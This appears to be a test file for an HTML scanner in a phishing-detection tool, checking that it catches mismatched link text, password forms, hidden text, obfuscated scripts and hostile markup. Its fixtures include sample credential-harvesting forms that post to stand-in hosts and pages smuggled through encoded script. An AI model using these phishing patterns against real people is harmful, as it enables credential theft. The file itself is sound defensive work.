// The HTML scanner: links with their visible text, forms, scripts, hidden text; and that
// broken or hostile HTML costs linear time.
import { describe, expect, it } from 'vitest';
import { decodeEntities, linksInText, readHtml } from './html.js';

describe('readHtml', () => {
  it('pairs each link with the text people see', () => {
    const h = readHtml('<p>Pay <a href="https://evil.example/x?a=1&amp;b=2">https://www.paypal.com</a> and <A HREF=\'http://b.example\'><img alt="Login"></A></p>', 10);
    expect(h.links).toEqual([
      { href: 'https://evil.example/x?a=1&b=2', text: 'https://www.paypal.com', source: 'html' },
      { href: 'http://b.example', text: 'Login', source: 'html' },
    ]);
    expect(h.text).toContain('Pay https://www.paypal.com and');
  });

  it('finds forms with password fields and where they post', () => {
    const h = readHtml('<form action="https://collect.example/p.php" method=post><input type=email name=email><input type="password" name="pw"></form>', 10);
    expect(h.forms).toEqual([{ action: 'https://collect.example/p.php', hasPassword: true, fields: ['email', 'pw'] }]);
  });

  it('leaves hidden text out and counts hidden runs inside words', () => {
    const h = readHtml('<p>Am<span style="font-size:0px">X34Q</span>azon Pri<span style="display: none">zz</span>me <div style="display:none">preheader</div>ok</p>', 10);
    expect(h.text).toMatch(/^Amazon Prime\s+ok$/);
    expect(h.hiddenInWords).toBe(2);
    expect(h.hiddenChars).toBe('X34Q'.length + 'zz'.length + 'preheader'.length);
  });

  it('skips scripts and styles, noting obfuscated code and refresh redirects', () => {
    const h = readHtml('<style>p{}</style><script>eval(atob("ZXZpbA=="))</script><meta http-equiv="refresh" content="0; url=https://next.example/"><p>hi</p>', 10);
    expect(h.text).toBe('hi');
    expect(h.scripts).toBe(1);
    expect(h.obfuscatedScript).toBe(true);
    expect(h.refreshTargets).toEqual(['https://next.example/']);
  });

  it('reads a page smuggled inside script, as a phishing attachment hides its form', () => {
    const page = '<form action="https://grab.example/p"><input type="password" name="pw"></form><a href="https://grab.example/x">x</a>';
    const smuggled = readHtml(`<script>document.write(unescape("${encodeURIComponent(page)}"))</script>`, 10);
    expect(smuggled.obfuscatedScript).toBe(true);
    expect(smuggled.forms).toEqual([{ action: 'https://grab.example/p', hasPassword: true, fields: ['pw'] }]);
    expect(smuggled.links.map((l) => l.href)).toEqual(['https://grab.example/x']);
    const b64 = readHtml(`<script>var p = atob('${Buffer.from(page).toString('base64')}'); document.write(p)</script>`, 10);
    expect(b64.forms[0]?.hasPassword).toBe(true);
  });

  it('keeps forms and links inside hidden blocks (kits reveal them with script)', () => {
    const h = readHtml('<div style="display:none"><form action="https://x.example/p"><input type="password" name="p"></form></div>', 10);
    expect(h.forms[0]?.hasPassword).toBe(true);
    expect(h.text).toBe('');
  });

  it('decodes entities, numeric ones included', () => {
    expect(decodeEntities('&lt;a&gt; &amp; &#x41;&#66; &eacute; &bogus;')).toBe('<a> & AB é &bogus;');
  });

  it('stays linear on hostile HTML: unclosed quotes, comments and tags', () => {
    for (const hostile of ['<a href="'.repeat(20000), '<!--'.repeat(50000), '<'.repeat(200000), `<div ${'a="b" '.repeat(50000)}>`]) {
      const started = performance.now();
      readHtml(hostile, 100);
      expect(performance.now() - started).toBeLessThan(2000);
    }
  });

  it('bounds the links it keeps', () => {
    expect(readHtml('<a href="http://x.example/">x</a>'.repeat(1000), 50).links).toHaveLength(50);
  });
});

describe('linksInText', () => {
  it('finds URLs in plain text and trims trailing punctuation', () => {
    expect(linksInText('Go to https://a.example/x). Or www.b.example.', 10).map((l) => l.href)).toEqual(['https://a.example/x', 'http://www.b.example']);
  });

  it('finds scheme-less hosts only when asked about them', () => {
    const links = linksInText('Contact me >> insta-club.netlify.app and read example.com', 10, 'text', (h) => h.endsWith('.netlify.app'));
    expect(links.map((l) => l.href)).toEqual(['http://insta-club.netlify.app']);
  });
});
